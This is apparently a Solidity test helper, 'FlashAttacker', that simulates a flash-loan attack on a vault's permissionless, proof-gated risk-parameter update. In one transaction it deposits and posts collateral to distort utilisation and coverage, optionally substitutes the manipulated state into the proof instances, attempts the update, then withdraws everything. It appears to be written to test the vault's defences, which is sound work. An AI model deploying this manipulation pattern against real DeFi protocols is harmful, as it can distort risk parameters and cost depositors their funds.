// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ZkinferInstances} from "../../ZkinferInstances.sol";
import {AIRiskVault} from "../../vault/AIRiskVault.sol";
import {MockERC20} from "./MockERC20.sol";

/// @notice The flash-loan attack on the permissionless update, in one call: lend and post
/// collateral (pushing utilisation to near 0 and coverage to full), update the risk parameters,
/// then redeem and withdraw everything.
contract FlashAttacker {
    /// @param proof The proof the update carries.
    /// @param instances Its instances; with `liveInput`, the input word is replaced by the word of
    /// the manipulated state (what a proof prepared in advance for that state would carry).
    /// @return accepted Whether the update went through.
    /// @return wordDuring The input word the vault expected while the position was open.
    /// @return instant The vault's live features while the position was open.
    function attack(
        AIRiskVault vault,
        MockERC20 asset,
        MockERC20 collateral,
        uint256 lend,
        uint256 post,
        bytes calldata proof,
        uint256[] memory instances,
        bool liveInput
    ) external returns (bool accepted, uint256 wordDuring, int256[4] memory instant) {
        asset.approve(address(vault), type(uint256).max);
        collateral.approve(address(vault), type(uint256).max);
        uint256 shares = vault.deposit(lend, address(this));
        vault.depositCollateral(post);
        wordDuring = vault.expectedInputWord();
        instant = vault.instantFeatures();
        if (liveInput) {
            int256[] memory values = new int256[](4);
            for (uint256 i = 0; i < 4; ++i) {
                values[i] = instant[i];
            }
            instances[0] = ZkinferInstances.pack(values, vault.PACK_BITS())[0];
        }
        try vault.updateRiskParameters(proof, instances) {
            accepted = true;
        } catch {}
        vault.redeem(shares, address(this), address(this));
        vault.withdrawCollateral(post);
    }
}
